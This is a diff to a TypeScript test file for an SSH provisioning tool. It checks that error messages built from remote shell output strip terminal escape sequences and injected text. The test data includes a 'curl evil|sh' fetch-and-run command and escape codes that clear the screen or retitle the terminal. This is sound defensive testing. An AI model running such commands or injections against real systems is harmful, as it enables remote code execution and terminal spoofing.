@@ -232,11 +232,12 @@ describe("a machine, before the first step that runs on it", () => {
   it("that takes nothing is named, with what it says and what to do", async () => {
     const wire = new Wire(node());
     await wire.parts();
-    server.shell = () => "cat >/dev/null; echo 'mkdir: No space left on device' >&2; exit 1";
+    server.shell = () =>
+      "cat >/dev/null; printf 'mkdir: No space \\033[2Jleft on device\\n' >&2; exit 1";
     const step = { name: "worker-01-claim", parts: [], inMemory: false };
     await assert.rejects(
       bring(wire, step, new Map([["0123", "hunter2"]]), [], "id"),
-      /^Error: \ngroundwork: worker-01 \(127\.0\.0\.1\) does not take what worker-01-claim needs there: mkdir: No space left on device\n {2}what to do: /,
+      /^Error: \ngroundwork: worker-01 \(127\.0\.0\.1\) does not take what worker-01-claim needs there: mkdir: No space  \[2Jleft on device\n {2}what to do: /,
     );
   });
 
@@ -301,6 +302,31 @@ describe("a machine, before the first step that runs on it", () => {
         const answer = await asked();
         assert.doesNotMatch(JSON.stringify(answer), leaks);
       });
+  });
+
+  it("is told to lack what we asked for, and nothing that it names itself", async () => {
+    const lines =
+      "\\ngroundwork-shell\\ngroundwork-missing \\033]0;owned\\007 bash; curl evil|sh\\n";
+    const more = "groundwork-missing bash\\n".repeat(2);
+    for (const [says, told] of [
+      [lines, /does not run what it is given/],
+      [lines + more, /has no bash in the PATH .*\n.*apt-get install bash\)/],
+    ] as const) {
+      server.shell = () => `cat >/dev/null; printf '${says}'`;
+      await assert.rejects(probe(node()), ({ message }: Error) => {
+        assert.match(message, told);
+        assert.doesNotMatch(message, /\u001b|evil/);
+        return true;
+      });
+    }
+  });
+
+  it("is believed no user's name that could be none", async () => {
+    server.shell = () => `echo 'Please login as the user "${"a".repeat(500)}"'; exit 1`;
+    await assert.rejects(probe(node()), ({ message }: Error) => {
+      assert.doesNotMatch(message, /set ssh\.user to a{33}/);
+      return true;
+    });
   });
 
   describe("with folders of its own", () => {
